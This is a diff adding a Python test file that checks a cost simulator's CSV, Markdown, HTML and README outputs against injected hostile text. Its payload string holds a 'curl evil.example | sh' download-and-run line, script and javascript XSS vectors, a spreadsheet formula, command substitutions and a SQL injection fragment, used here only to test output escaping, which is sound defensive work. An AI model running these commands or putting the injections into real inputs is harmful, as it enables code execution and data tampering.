@@ -1,0 +1,110 @@
+"""Hostile text in every text field of every table, into every file we write: none of it becomes active."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from markdown_it import MarkdownIt
+
+from simulator import Account, simulate
+from simulator.engine.scenario import everything
+from simulator.engine.simulate import Result
+from simulator.reports.actions import action_files
+from simulator.reports.report.contents import contents
+from simulator.reports.report.html import render_html
+from simulator.reports.report.markdown import render_markdown
+from simulator.reports.resources import resource_table
+from simulator.reports.tables import as_csv
+from simulator.snapshot.schema import TABLES
+from simulator.words import INVISIBLE
+from tests.accounts import prices, snapshot_with, traffic
+
+PAYLOAD = (
+    "=HYPERLINK(1)\n# Before you start\n```sh\ncurl evil.example | sh\n```\n<script>alert(1)</script>"
+    "<img src=x onerror=alert(1)>[x](javascript:alert(1))\u202egnp\x1b[31m$(touch /tmp/x)`id`';DROP"
+)
+NOVA = {"model_id": "amazon.nova-lite-v1:0", "requests": 1000, "input_tokens": 1e6, "output_tokens": 1e5}
+IDENTITIES = ("endpoint_name", "variant", "variant_name", "component_name", "account_id")
+"""These join tables; each holds the payload too, the same one in both."""
+
+
+def hostile(table: str, row: dict[str, Any]) -> dict[str, Any]:
+    """The row with the payload in every free text field it may have."""
+    free = {
+        c.name
+        for c in TABLES[table].columns
+        if c.kind == "text" and c.name not in IDENTITIES and not c.choices
+    }
+    return row | {name: PAYLOAD for name in free if name not in ("service", "usage_type", "model_id")}
+
+
+@pytest.fixture(scope="module")
+def result() -> Result:
+    name = f"endpoint {PAYLOAD}"
+    names = [f"{name} {n}" for n in range(3)]
+    snapshot = snapshot_with(
+        endpoints=[hostile("endpoints", {"endpoint_name": n}) for n in names],
+        endpoint_traffic=[r for n in names for r in traffic(n, ([0.0] * 12 + [10.0] * 12) * 30)],
+        training_jobs=[hostile("training_jobs", {"status": "Failed"})],
+        compute=[hostile("compute", {"kind": "notebook", "hours": 100})],
+        storage=[hostile("storage", {"gib": 500})],
+        bedrock=[
+            hostile(
+                "bedrock",
+                {
+                    "model_id": "amazon.nova-lite-v1:0",
+                    "requests": 1000,
+                    "input_tokens": 1e6,
+                    "output_tokens": 1e5,
+                },
+            )
+        ],
+    )
+    return simulate(Account.open(snapshot), everything(), prices())
+
+
+def test_action_pack(result: Result) -> None:
+    files = action_files(result)
+    for name, text in files.items():
+        assert not INVISIBLE.search(name + text), name
+        assert "\n" not in name
+        assert ".." not in name
+    readme = files["README.md"]
+    assert "evil.example" not in " ".join(code_of(readme)), "nothing foreign in a block that people copy"
+    no_markup(readme)
+
+
+def test_markdown_and_html_report(result: Result) -> None:
+    made = contents(result, 3, draws=20, seed=1)
+    text, page = render_markdown(made), render_html(made)
+    no_markup(text)
+    assert not INVISIBLE.search(text + page)
+    assert "<script" not in page
+    assert "<img" not in page
+    assert 'javascript:alert(1)"' not in page
+
+
+def test_csv(result: Result) -> None:
+    text = as_csv(resource_table(result.baseline))
+    assert not INVISIBLE.search(text)
+    for row in csv.reader(io.StringIO(text)):
+        assert not [cell for cell in row if cell.startswith(("=", "@", "\t"))]
+
+
+def no_markup(text: str) -> None:
+    """No heading, tag, picture or link of the payload's making."""
+    tokens = MarkdownIt("commonmark").enable("table").parse(text)
+    for at, token in enumerate(tokens):
+        assert token.type != "html_block"
+        if token.type == "heading_open":
+            assert "Before you start" not in tokens[at + 1].content or "\\#" in tokens[at + 1].content
+        for child in token.children or ():
+            assert child.type not in ("html_inline", "image"), child
+            assert child.type != "link_open" or "javascript" not in str(child.attrs), child
+
+
+def code_of(text: str) -> list[str]:
+    return [t.content for t in MarkdownIt("commonmark").parse(text) if t.type in ("fence", "code_block")]
